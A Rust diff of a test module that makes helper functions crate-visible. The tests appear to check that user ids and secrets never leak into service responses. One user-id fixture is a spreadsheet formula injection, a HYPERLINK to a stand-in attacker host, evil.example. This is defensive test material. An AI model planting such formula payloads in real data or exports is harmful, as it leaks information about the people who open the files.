@@ -21,7 +21,7 @@ use crate::{
 };
 
 /// Ids that are easily carried along: whatever a service may call somebody.
-fn users() -> Vec<String> {
+pub(crate) fn users() -> Vec<String> {
     let mut users: Vec<_> = [
         "田中・花子",
         "=HYPERLINK(\"http://evil.example/?u=hanako\",\"x\")",
@@ -186,7 +186,7 @@ fn fill(stage: &Stage, operation: &Operation, account: &Tenant, service: &str) -
 }
 
 /// Questions to an operation: good ones and bad ones, also with the id of a user in them.
-fn questions(operation: &Operation) -> Vec<String> {
+pub(crate) fn questions(operation: &Operation) -> Vec<String> {
     let user = utf8_percent_encode(&users()[1], NON_ALPHANUMERIC).to_string();
     let mut all = vec![String::new(), "?limit=1".to_owned(), format!("?nonsense={user}")];
     for name in &operation.query {
@@ -212,7 +212,7 @@ fn questions(operation: &Operation) -> Vec<String> {
 }
 
 /// Everything that came back, headers too.
-fn keep(shown: &mut String, what: &str, answer: &Response) {
+pub(crate) fn keep(shown: &mut String, what: &str, answer: &Response) {
     writeln!(shown, "\n{what} {}", answer.status).expect("memory");
     for (name, value) in &answer.headers {
         writeln!(shown, "{name}: {}", String::from_utf8_lossy(value.as_bytes())).expect("memory");
@@ -257,7 +257,7 @@ async fn look_everywhere(stage: &Stage, all: bool) -> String {
     shown
 }
 
-fn assert_nothing_of(secrets: &[(String, Disguises)], what: &str, text: &str) {
+pub(crate) fn assert_nothing_of(secrets: &[(String, Disguises)], what: &str, text: &str) {
     for (id, forms) in secrets {
         let found = forms.found_in(text);
         assert!(found.is_empty(), "{id} is in {what}: {found:?}");
